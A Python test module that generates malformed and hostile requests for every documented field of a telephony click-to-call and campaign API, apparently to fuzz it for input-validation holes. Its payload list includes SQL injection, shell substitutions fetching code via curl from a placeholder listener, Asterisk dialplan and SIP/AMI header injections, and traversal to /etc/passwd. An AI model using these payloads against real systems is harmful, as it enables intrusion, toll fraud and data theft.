"""What strangers send: any field of any route, with texts that once broke into a telephone exchange."""

import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from itertools import product
from typing import Any
from urllib.parse import quote

from hypothesis import strategies as st

from tests.live.engine import CALLER_ID

BUSY = "919910073920"  # a row that ends a call at once, should one be placed
BUSY_TOO = "919910073820"
CALL = {"agent_number": BUSY, "caller_id": CALLER_ID, "destination_number": BUSY}
LATER = {"time_zone": "US/Eastern", "scheduled_at": f"{datetime.now() + timedelta(days=100):%Y-%m-%d %H:%M:%S}"}
CONTACTS = json.dumps([{"contact_name": "x", "contact_number": BUSY, "contact_fields": {"field1": "x"}}])
DND_CONTACTS = json.dumps([{"dnd_contact_name": "x", "dnd_contact_number": BUSY}])
DAYS = {"start_call_date": "2023-06-13", "end_call_date": "2023-06-17", "record_count": "5", "offset": "1"}

# Sarv's proof stands among the parameters: whoever sends a request fills in the lab's.
PROOF = {"user_id": "~USER~", "token": "~TOKEN~"}
SARV, SARV_V1 = "/v2/clickToCall/para", "/clickToCall/v1/para"
SARV_CALL = {**PROOF, "from": BUSY, "to": BUSY_TOO}
SARV_NUMBERS = {
    **SARV_CALL,
    "fromType": "Number",
    "toType": "Number",
    "fromStrategy": "ONE_BY_ONE",
    "toStrategy": "TO_ALL",
    "fromRingTime": "5",
    "toRingTime": "5",
    "timeLimit": "5",
    "timeLimitHangup": "true",
    "timeLimtAlert": "1,2",
    "fromRetryCount": "0",
    "toRetryCount": "0",
    "fromCLI": CALLER_ID,
    "toCLI": CALLER_ID,
    "dndFilter": "both",
    "mode": "live",
}
SARV_GROUP = {
    **SARV_CALL,
    "toType": "Group",
    "to": "301",
    "timeLimit": "5",
    "timeLimtAlert": "1,2",
    "alertAudio": "1610448601_84.wav",
    "ringTone": "1610448601_84.wav",
    "fromWebLogin": "na",
    "fromCallLogin": "na",
    "toWebLogin": "na",
    "toCallLogin": "na",
    "sticky": "yes",
    "stickyTimeType": "day",
    "stickyTimeValue": "1",
    "stickyAgentBusy": "retrySame",
    "queueTimeout": "1",
    "mode": "developer",
}

VOICE, ANNOUNCEMENTS = "/api/voice/upload_announcement.php", "/v1/announcements"
VOICE_UPLOAD = {"username": "~VOICE_USER~", "token": "~VOICE_TOKEN~", "announcement_path": "~URL~/x.mp3"}

CAMPAIGN = {
    "list_id": "LS608c393614",
    "dnd_list_id": "DNd2b09f8f80",
    "campaign_name": "hostile",
    "campaign_type": "1",
    "campaign_caller_id": CALLER_ID,
    "dynamic_announcement": "1",
    "recorded_filename": "",
    "announcement_text": "Dear, {field1}",
    "campaign_start_date": LATER["scheduled_at"],
    "campaign_end_date": f"{datetime.now() + timedelta(days=101):%Y-%m-%d %H:%M:%S}",
    "time_zone": "US/Eastern",
    "repeat": "2",
    "repeat_count": "2",
    "max_retries": "1",
    "retry_attempts": "1",
    "retry_on_statuses": "NOANSER,BUSY",
    "retry_time": "60",
    "calls_per_minute": "10",
    "voice": "Matthew",
    "volume": "soft",
    "rate": "slow",
    "pitch": "medium",
    "language_code": "en-US",
    "tts_engine_type": "standard",
    "ivr_id": "",
    "connect_to": "extension:101",
    "amd": "asterisk",
    "on_machine": "hangup",
    "amd_greeting": "2500",
}
CAMPAIGN_ID = {"campaign_id": "CMcc0cb33a01"}
REPORT = {"username": "~VOICE_USER~", "token": "~VOICE_TOKEN~", "unique_ids": "CM39139118b8_LS50f6ec70b7_1-u1"}
MOR = "/api/autodialer_get_campaign_ivr_poll_results"
MOR_ID = "CM39139118b8"
MOR_POLL = {"u": "~MOR_USER~", "id": MOR_ID, "hash": "~MOR_HASH~", "order_by": "time", "s_reseller": "all"}
MACHINE_CODES = {
    "api": "campaign_8",
    "campaign_id": "CM39139118b8",
    "date_ini": "20230815125500",
    "date_end": "20230816125500",
}

# Once is enough of what proves who asks: all of it is wrong, and counted.
PROVING = dict.fromkeys((MOR, f"/billing{MOR}"), ("u", "id", "hash")) | {
    "/api/voice/fetch_report.php": ("username", "token")
}

# Every parameter that the vendor's document names, by route, with a value that is taken.
FIELDS: dict[tuple[str, str], dict[str, str]] = {
    ("POST", "/api/click2call"): {**CALL, "recording_option": "off", "transcript": "off"},
    ("POST", "/api/callback"): {**CALL, "recording_option": "off", **LATER},
    ("PATCH", "/api/callback"): {"request_id": "c1da7c083f", **CALL, "recording_option": "off", **LATER},
    ("DELETE", "/api/callback"): {"request_id": "c1da7c083f"},
    ("POST", "/api/modify_call"): {
        "channel": " PJSIP/101-0000023c",
        "modify_type": "0",
        "transfer_to": BUSY,
    },
    ("GET", "/v1/live_calls"): {},
    **{("POST", f"/v1/calls/{{request_id}}/transfer/{how}"): {} for how in ("complete", "cancel", "swap")},
    ("GET", "/v1/callbacks"): {"state": "scheduled", "limit": "10", "after": "c1da7c083f"},
    ("GET", "/v1/callbacks/{request_id}"): {},
    ("POST", "/api/outbound_call"): {
        "customer_number": BUSY,
        "caller_id": CALLER_ID,
        "otp": "1987",
        "announce_template_id": "AN2222314c96",
        "repeat": "1",
        "voice": "Raveena",
        "volume": "soft",
        "rate": "slow",
        "pitch": "medium",
        "language_code": "en-US",
        "tts_engine_type": "standard",
    },
    ("POST", "/api/create_campaign_list"): {"list_name": "hostile"},
    ("POST", "/api/add_contact_to_list"): {"list_id": "LSaa8f9db7e6", "contacts": CONTACTS},
    ("POST", "/api/import_broadcast_contacts_csv"): {"list_id": "LSaa8f9db7e6", "csv_name": "contacts.csv"},
    ("POST", "/api/create_campaign_dnd_list"): {"dnd_list_name": "hostile"},
    ("POST", "/api/add_dnd_contact_to_list"): {"dnd_list_id": "DNda1b361461", "dnd_contacts": DND_CONTACTS},
    ("POST", "/api/import_dnd_contacts_csv"): {"dnd_list_id": "DNda1b361461", "dnd_csv_name": "dnd_contacts.csv"},
    ("POST", "/api/create_campaign"): CAMPAIGN,
    ("POST", "/api/stop_campaign"): CAMPAIGN_ID,
    ("POST", "/stop_campaign"): CAMPAIGN_ID,
    ("GET", "/api/get_campaign_details"): {},
    ("GET", "/v1/campaigns"): {},
    ("GET", "/v1/campaigns/{campaign_id}"): {},
    ("POST", "/v1/campaigns/{campaign_id}/start"): {},
    ("POST", "/v1/campaigns/{campaign_id}/pause"): {},
    ("POST", "/v1/campaigns/{campaign_id}/resume"): {},
    ("POST", "/v1/campaigns/{campaign_id}/stop"): {},
    ("POST", "/api/get_cdr_by_request_id"): {"request_id": "91da7c083f"},
    ("POST", "/api/get_cdr_by_date"): DAYS,
    ("GET", "/api/get_cdr_statistics"): {},
    ("GET", "/api/get_live_call_statistics"): {},
    ("POST", SARV): SARV_NUMBERS,
    ("GET", SARV): SARV_GROUP,
    ("POST", SARV_V1): SARV_CALL,
    ("GET", SARV_V1): SARV_CALL,
    ("POST", VOICE): VOICE_UPLOAD,
    ("GET", VOICE): VOICE_UPLOAD,
    ("POST", "/api/voice/fetch_report.php"): REPORT,
    ("GET", "/api/voice/fetch_report.php"): REPORT,
    ("POST", MOR): MOR_POLL,
    ("GET", MOR): MOR_POLL,
    ("POST", f"/billing{MOR}"): MOR_POLL,
    ("GET", f"/billing{MOR}"): MOR_POLL,
    ("GET", "/api/v2/reports_manager.php"): MACHINE_CODES,
    ("POST", "/api/get_cdr_by_campaign_id"): {"campaign_id": "CM39139118b8", "record_count": "5", "offset": "1"},
    ("POST", "/api/get_campaign_cdr_statistics"): {"campaign_id": "CM39139118b8"},
    ("GET", "/v1/campaigns/{campaign_id}/poll"): {"limit": "10", "offset": "1"},
    ("GET", "/v1/recordings"): {
        "request_id": "91da7c083f",
        "state": "finished",
        "limit": "10",
        "after": "n1-91da7c083f.b1.r1",
    },
    ("GET", "/v1/recordings/{name}"): {"expires": "4102444800", "signature": "0" * 64},
    ("GET", "/v1/transcripts/{request_id}"): {},
    ("POST", ANNOUNCEMENTS): {"file": "~URL~/x.mp3", "name": "x"},
    ("GET", ANNOUNCEMENTS): {},
    ("GET", ANNOUNCEMENTS + "/{name}"): {},
    ("DELETE", ANNOUNCEMENTS + "/{name}"): {},
    ("GET", "/healthz"): {},
    ("HEAD", "/healthz"): {},
    ("GET", "/readyz"): {},
    ("HEAD", "/readyz"): {},
    ("GET", "/metrics"): {},
    ("HEAD", "/metrics"): {},
}
# What no document names, but a careless server might take.
TEMPTING = (
    "endpoint",
    "channel",
    "variables",
    "context",
    "app",
    "media",
    "callerId",
    "order_by",
    "auth",
    "otp",
    "__proto__",
)

# ~HOST~ is an address and ~URL~ a folder that we listen on; ~SECRET~ is looked for in the log.
TEXTS = (
    "PJSIP/carrier/sip:100@~HOST~",
    "PJSIP/100@carrier",
    "sip:100@~HOST~",
    f"{BUSY}@~HOST~",
    f"{BUSY}/sip:100@~HOST~",
    f"{BUSY}&PJSIP/carrier/sip:100@~HOST~",
    "Local/s@canary/n",
    f"{BUSY}&Local/s@canary/n",
    f"{BUSY}@canary",
    "s@canary",
    "canary",
    "101@carrier",
    f"{BUSY}\n",
    f"{BUSY}\r\nX-Evil: 1",
    f"{BUSY}\r\n\r\nINVITE sip:100@~HOST~ SIP/2.0",
    "\r\nAction: Originate\r\nChannel: Local/s@canary\r\n\r\n",
    f"{BUSY}\x00",
    f" {BUSY} ",
    f"{BUSY},30,U(canary)",
    f"{BUSY}|30|g",
    "٩١٩٩١٠٠٧٣٩٢٠",
    "９１９９１００７３９２０",
    "91 99100 73920",
    "+" + BUSY,
    "00" + BUSY,
    "101",
    "112",
    "9" * 300,
    "A" * 300,
    "' OR '1'='1",
    "'; DROP TABLE cdrs; --",
    "1; SELECT pg_sleep(5)",
    "id DESC; --",
    "(SELECT CASE WHEN (1=1) THEN id ELSE call_date END)",
    "<speak><audio src='~URL~/ssml'/></speak>",
    "<![CDATA[x]]>&xxe;",
    "${SHELL(touch /tmp/legwork-shell)}",
    "${CURL(~URL~/curl)}",
    "${FILE(/etc/passwd)}",
    "$(curl ~URL~/sh)",
    "`curl ~URL~/sh`",
    "sound:~URL~/a.wav",
    "~URL~/webhook",
    "http:\\\\~URL~",
    "//~URL~",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "{0.__class__.__mro__}",
    "{{7*7}}",
    "%s%n%x",
    "=cmd|'/C calc'!A0",
    "\x1b[2J\x9b31m\u202e",
    "\ud800",
    "\udcff",
    "\ufeff\u2028",
    "2023-06-31",
    "9999-12-31",
    "0000-00-00",
    "-1",
    "1e9",
    "NaN",
    "~SECRET~",
    "",
)
ODD: st.SearchStrategy[Any] = st.sampled_from(
    [None, True, False, 0, -1, 2**63, 10**40, 10**400, 1.5, 1e308, [], {}, [[]], {"$gt": ""}, [BUSY], {"number": BUSY}]
)
DEEP = st.recursive(ODD, lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(), inner, max_size=2))
TEXT = st.sampled_from(TEXTS) | st.builds("".join, st.lists(st.sampled_from(TEXTS), max_size=3)) | st.text(max_size=40)
BODIES = st.sampled_from(
    [
        b"",
        b"{",
        b"[" * 20_000,
        b"null",
        b'"x"',
        b"{}" * 2,
        b"\xff\xfe{}",
        b'{"a":1,"a":2}',
        b'{"agent_number":"\\ud800"}',
    ]
)
RAW_PATHS = st.sampled_from(
    [b"/api/\xff\x1b[2J", b"/api/%00", b"/api/%0d%0aX:%20y", b"/api/../healthz", b"//~HOST~/api", b"*"]
)
HEADERS = st.sampled_from(
    [
        "X-Forwarded-For",
        "Idempotency-Key",
        "Content-Type",
        "X-HTTP-Method-Override",
        "Host",
        "Content-Encoding",
        "Range",
    ]
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """One request: account_1's own unless `headers` says otherwise."""

    method: str
    path: bytes
    body: bytes
    headers: dict[str, str] = field(default_factory=dict)

    def over_http(self, *, own: dict[str, str], places: dict[str, str]) -> bytes:
        """The request as it goes over the wire, with the places that the texts name."""
        headers = {"Host": "x", **own, **self.headers, "Content-Length": str(len(self.placed(places)))}
        lines = [f"{name}: {value}" for name, value in headers.items()]
        head = "\r\n".join([*(_filled(line, places) for line in lines), "Connection: close", "", ""])
        start = b"%s %s HTTP/1.1\r\n" % (self.method.encode(), _filled_raw(self.path, places))
        return start + head.encode("utf-8", "surrogatepass") + self.placed(places)

    def placed(self, places: dict[str, str]) -> bytes:
        """The body with the places that the texts name."""
        return _filled_raw(self.body, places)


def _filled(text: str, places: dict[str, str]) -> str:
    for name, place in places.items():
        text = text.replace(name, place)
    return text.replace("\r", " ").replace("\n", " ")  # another line would be another header, not this one


def _filled_raw(raw: bytes, places: dict[str, str]) -> bytes:
    for name, place in places.items():
        raw = raw.replace(name.encode(), place.encode())
    return raw


def each_text_in_each_field() -> Iterator[Hostile]:
    """Every text in every documented field, all else good: what a careless check of that field would let through."""
    for (method, path), good in FIELDS.items():
        for name, text in product(good, TEXTS):
            if name in PROOF and PROOF.keys() <= good.keys() and (method, path) != ("POST", SARV):
                continue
            if name in PROVING.get(path, ()) and (method, path) != ("POST", MOR):
                continue
            spoilt = good | {name: text}
            if method == "GET" and good:
                yield Hostile(method, path.encode() + _query(spoilt), b"")
            else:
                yield Hostile(method, path.encode(), json.dumps(spoilt).encode())


def _query(fields: dict[str, Any]) -> bytes:
    """The fields as a query."""
    return b"?" + "&".join(f"{name}={quote(str(value), errors='replace')}" for name, value in fields.items()).encode()


@st.composite
def requests(draw: st.DrawFn, routes: list[tuple[str, str]]) -> Hostile:
    """A request to one of the routes with something wrong in it."""
    method, path = draw(st.sampled_from(routes))
    good = FIELDS[method, path]
    names = st.sampled_from([*good, *TEMPTING])
    spoilt = st.builds(lambda name, text: good.get(name, "") + text, names, TEXT)
    body: dict[str, Any] = good | draw(st.dictionaries(names, TEXT | spoilt | DEEP, min_size=1, max_size=3))
    raw = draw(BODIES) if draw(st.integers(0, 9)) == 0 else json.dumps(body).encode()
    headers = draw(st.dictionaries(HEADERS, TEXT, max_size=1))
    if draw(st.integers(0, 14)) == 0:
        headers["auth"] = draw(TEXT)
    elif draw(st.integers(0, 14)) == 0:
        headers["account"] = draw(TEXT)
    target = path.encode()
    match draw(st.integers(0, 9)):
        case 0:
            target = draw(RAW_PATHS)
        case 1:
            target += _query(body)
        case 2 if good.keys() >= PROOF.keys():
            target, raw = target + _query(good), b""
    return Hostile(method, target, raw, headers)
